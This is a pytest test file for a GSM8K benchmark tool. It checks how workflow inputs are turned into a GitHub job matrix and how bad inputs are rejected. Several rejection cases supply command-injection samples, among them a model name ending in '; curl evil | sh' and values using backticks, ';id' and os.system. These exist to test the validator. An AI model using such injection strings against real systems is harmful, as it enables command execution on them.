"""The benchmark workflow's inputs -> job matrix, in process (test_workflows.py runs the same step through
nox): every input rule with its exact message, and the exact rows."""

from __future__ import annotations

import pytest

from gsm8k_bench.core.errors import ConfigError
from gsm8k_bench.fleet import workflow_plan


def inputs(**given) -> dict[str, str]:
    return {**dict.fromkeys(workflow_plan.INPUTS, ""), **given}


def rejected(matrix, **given) -> str:
    with pytest.raises(ConfigError) as info:
        workflow_plan.job_rows(matrix, inputs(**given))
    return str(info.value)


def test_inputs_come_from_input_variables_stripped():
    environ = {"INPUT_SESSIONS": "  tags: mi355x \n", "INPUT_NUM_FEWSHOT": "3", "INPUT_MODEL": "m", "OTHER": "x"}
    assert workflow_plan.read_inputs(environ) == {**inputs(), "sessions": "tags: mi355x", "num_fewshot": "3",
                                             "model": "m"}


def test_session_names_give_one_row_each_with_its_nox_call(matrix):
    rows = workflow_plan.job_rows(matrix, inputs(sessions="gsm8k-smollm2-135m-cpu-vllm-fp16-tp1  "
                                                 "gsm8k-llama-3.1-8b-b200-sglang-fp4-tp1", limit="20"))
    assert rows == [
        {"session": "gsm8k-smollm2-135m-cpu-vllm-fp16-tp1", "model": "smollm2-135m",
         "checkpoint": "HuggingFaceTB/SmolLM2-135M-Instruct", "runner": "cpu", "runner_label": "ubuntu-24.04",
         "vendor": "cpu", "framework": "vllm", "precision": "fp16", "tp": 1,
         "nox_session": "gsm8k-smollm2-135m-cpu-vllm-fp16-tp1", "image": "gsm8k-bench/vllm-cpu:0.32.0",
         # the eval's limit: the job's 360 minutes less 30 of setup and the runner's 600 s start timeout
         "session_args": "--num-fewshot 5 --limit 20 --eval-timeout 19200 --gate-family 2"},
        {"session": "gsm8k-llama-3.1-8b-b200-sglang-fp4-tp1", "model": "llama-3.1-8b",
         "checkpoint": "nvidia/Llama-3.1-8B-Instruct-FP4", "runner": "b200", "runner_label": "b200-nv",
         "vendor": "nvidia", "framework": "sglang", "precision": "fp4", "tp": 1,
         "nox_session": "gsm8k-llama-3.1-8b-b200-sglang-fp4-tp1", "image": "lmsysorg/sglang:v0.5.23",
         "session_args": "--num-fewshot 5 --limit 20 --eval-timeout 18000 --gate-family 2"},
    ]


def test_tags_and_keyword_expressions_select_like_nox(matrix):
    by_tag = workflow_plan.job_rows(matrix, inputs(sessions="tags: fp4 cpu"))
    assert {r["session"] for r in by_tag} == {c.name for c in matrix.combinations
                                              if c.precision.name == "fp4" or c.runner.name == "cpu"}
    one_tag = workflow_plan.job_rows(matrix, inputs(sessions="tag:mi325x"))
    assert {r["runner"] for r in one_tag} == {"mi325x"} and len(one_tag) == 14
    keyword = workflow_plan.job_rows(matrix, inputs(sessions="b200 and (fp4 or fp8) and not sglang"))
    assert [r["session"] for r in keyword] == [
        "gsm8k-llama-3.1-8b-b200-vllm-fp8-tp1", "gsm8k-llama-3.1-8b-b200-vllm-fp4-tp1",
        "gsm8k-llama-3.3-70b-b200-vllm-fp8-tp4", "gsm8k-llama-3.3-70b-b200-vllm-fp8-tp8",
        "gsm8k-llama-3.3-70b-b200-vllm-fp4-tp4", "gsm8k-llama-3.3-70b-b200-vllm-fp4-tp8",
        "gsm8k-gpt-oss-120b-b200-vllm-fp4-tp1", "gsm8k-gpt-oss-120b-b200-vllm-fp4-tp8",
        "gsm8k-deepseek-r1-b200-vllm-fp8-tp8", "gsm8k-deepseek-r1-b200-vllm-fp4-tp8"]
    assert {r["session_args"] for r in keyword} == {"--num-fewshot 5 --eval-timeout 18000 --gate-family 10"}


def test_an_adhoc_hub_model_row(matrix):
    (row,) = workflow_plan.job_rows(matrix, inputs(model="Qwen/Qwen3_8B-Instruct.v2", runner="h200", framework="vllm",
                                          precision="fp8", tp="2", num_fewshot="0", image="vllm/vllm-openai:dev"))
    assert row == {
        "session": "gsm8k-qwen3-8b-instruct.v2-h200-vllm-fp8-tp2", "model": "qwen3-8b-instruct.v2",
        "checkpoint": "Qwen/Qwen3_8B-Instruct.v2", "runner": "h200", "runner_label": "h200-cw",
        "vendor": "nvidia", "framework": "vllm", "precision": "fp8", "tp": 2, "nox_session": "gsm8k",
        "image": "vllm/vllm-openai:dev",
        "session_args": "--model qwen3-8b-instruct.v2 --runner h200 --framework vllm --precision fp8 --tp 2 "
                        "--checkpoint Qwen/Qwen3_8B-Instruct.v2 --num-fewshot 0 --image vllm/vllm-openai:dev "
                        "--eval-timeout 18000 --gate-family 1"}


def test_a_hub_name_loses_its_trailing_separators(matrix):
    (row,) = workflow_plan.job_rows(matrix, inputs(model="org/Model_", runner="h100", framework="vllm",
                                                   precision="fp16"))
    assert row["session"] == "gsm8k-model-h100-vllm-fp16-tp1" and row["checkpoint"] == "org/Model_"


def test_an_adhoc_row_without_an_image_input_runs_the_matrix_image(matrix):
    (row,) = workflow_plan.job_rows(matrix, inputs(model="org/Model_", runner="mi300x", framework="sglang",
                                              precision="fp16"))
    assert row["nox_session"] == "gsm8k" and row["image"] == "lmsysorg/sglang:v0.5.23-rocm720-mi30x"
    assert row["session_args"] == ("--model model --runner mi300x --framework sglang --precision fp16 --tp 1 "
                                   "--checkpoint org/Model_ --num-fewshot 5 --eval-timeout 18000 "
                                   "--gate-family 1")


def test_an_adhoc_matrix_model_is_its_matrix_session(matrix):
    (row,) = workflow_plan.job_rows(matrix, inputs(model="llama-3.1-8b", runner="mi300x", framework="sglang",
                                          precision="fp8"))
    assert row["checkpoint"] == "RedHatAI/Meta-Llama-3.1-8B-Instruct-FP8" and row["tp"] == 1
    assert row["nox_session"] == row["session"] == "gsm8k-llama-3.1-8b-mi300x-sglang-fp8-tp1"
    assert row["session_args"] == "--num-fewshot 5 --eval-timeout 18000 --gate-family 1"


@pytest.mark.parametrize(("given", "message"), [
    ({"model": "llama-3.1-8b"}, "inputs runner, framework, precision are required without 'sessions' (or give "
     "'sessions' to rerun part of matrix.yaml)"),
    ({}, "inputs model, runner, framework, precision are required without 'sessions' (or give 'sessions' to "
     "rerun part of matrix.yaml)"),
    ({"model": "llama-3.1-8b; curl evil | sh", "runner": "h100", "framework": "vllm", "precision": "fp8"},
     "input 'model': 'llama-3.1-8b; curl evil | sh' is neither a matrix.yaml model (smollm2-135m, "
     "qwen2.5-coder-1.5b, llama-3.1-8b, llama-3.3-70b, gpt-oss-120b, deepseek-r1), a hub id like org/name, nor an "
     "absolute path"),
    ({"model": "org/--", "runner": "h100", "framework": "vllm", "precision": "fp8"},
     "input 'model': 'org/--' is neither a matrix.yaml model (smollm2-135m, qwen2.5-coder-1.5b, llama-3.1-8b, "
     "llama-3.3-70b, gpt-oss-120b, deepseek-r1), a hub id like org/name, nor an absolute path"),
    ({"model": "llama-3.1-8b", "runner": "h100", "framework": "vllm", "precision": "fp8", "tp": "65"},
     "input 'tp': must be between 1 and 64, got 65"),
    ({"model": "llama-3.1-8b", "runner": "h100", "framework": "vllm", "precision": "fp8", "tp": "0"},
     "input 'tp': must be between 1 and 64, got 0"),
    ({"model": "llama-3.1-8b", "runner": "h100", "framework": "vllm", "precision": "fp8", "tp": "1;id"},
     "input 'tp': expected a whole number, got '1;id'"),
    ({"sessions": "gsm8k", "num_fewshot": "26"}, "input 'num-fewshot': must be between 0 and 25, got 26"),
    ({"sessions": "gsm8k", "limit": "0"}, "input 'limit': must be between 1 and 100000, got 0"),
    ({"sessions": "gsm8k", "limit": "100001"}, "input 'limit': must be between 1 and 100000, got 100001"),
    ({"sessions": "gsm8k", "limit": "1234567"}, "input 'limit': expected a whole number, got '1234567'"),
    ({"sessions": "gsm8k", "limit": "-5"}, "input 'limit': expected a whole number, got '-5'"),
    ({"sessions": "gsm8k", "image": "x`id`"}, "input 'image': 'x`id`' is not an image reference "
     "(^[a-z0-9][a-z0-9._/:@-]{0,254}$)"),
    ({"sessions": "gsm8k", "image": "UPPER/case"}, "input 'image': 'UPPER/case' is not an image reference "
     "(^[a-z0-9][a-z0-9._/:@-]{0,254}$)"),
    ({"sessions": "__import__('os').system('id')"}, "input 'sessions': -k expressions may use names, and, or, "
     "not and parentheses only; found Call"),
    ({"sessions": "a +"}, "input 'sessions': 'a +' is neither session names, 'tags: ...', nor a -k expression"),
    ({"sessions": "nothing_matches_this"}, "the selection matches no session (list them: nox -l)"),
])
def test_bad_inputs_are_refused_with_the_exact_reason(matrix, given, message):
    assert rejected(matrix, **given) == message


def test_the_limits_are_inclusive(matrix):
    row = workflow_plan.job_rows(matrix, inputs(sessions="gsm8k-smollm2-135m-cpu-vllm-fp16-tp1", num_fewshot="25",
                                       limit="100000"))[0]
    assert row["session_args"] == "--num-fewshot 25 --limit 100000 --eval-timeout 19200 --gate-family 1"
    row = workflow_plan.job_rows(matrix, inputs(sessions="gsm8k-smollm2-135m-cpu-vllm-fp16-tp1", num_fewshot="0",
                                       limit="1"))[0]
    assert row["session_args"] == "--num-fewshot 0 --limit 1 --eval-timeout 19200 --gate-family 1"
    (adhoc,) = workflow_plan.job_rows(matrix, inputs(model="llama-3.3-70b", runner="mi355x", framework="vllm",
                                            precision="fp16", tp="8"))
    assert adhoc["tp"] == 8


def test_selection_size_limits():
    with pytest.raises(ConfigError) as info:
        workflow_plan.check_size([{}] * 257)
    assert str(info.value) == ("the selection has 257 sessions, over GitHub's 256-job matrix limit; narrow it or "
                               "dispatch it in parts")
    assert workflow_plan.check_size([{}] * 256) == [{}] * 256


def test_no_image_where_the_matrix_has_none(matrix):
    # matrix.yaml has no SGLang image for the cpu runner, and so no repository an image input could come from.
    assert rejected(matrix, model="smollm2-135m", runner="cpu", framework="sglang", precision="fp16",
                    image="my/sglang:cpu") == (
        "input 'image': 'my/sglang:cpu' is not from a repository allowed for sglang on cpu. Allowed repositories: "
        "(none listed in matrix.yaml) (any tag, or a digest pinned as REPO@sha256:<64 hex>); other repositories "
        "are added to matrix.yaml by review")
    assert rejected(matrix, model="smollm2-135m", runner="cpu", framework="sglang", precision="fp16") == (
        "command line: gsm8k-smollm2-135m-cpu-sglang-fp16-tp1: framework 'sglang' has no image for runner 'cpu' "
        "(vendor cpu); add frameworks.sglang.images.cpu")
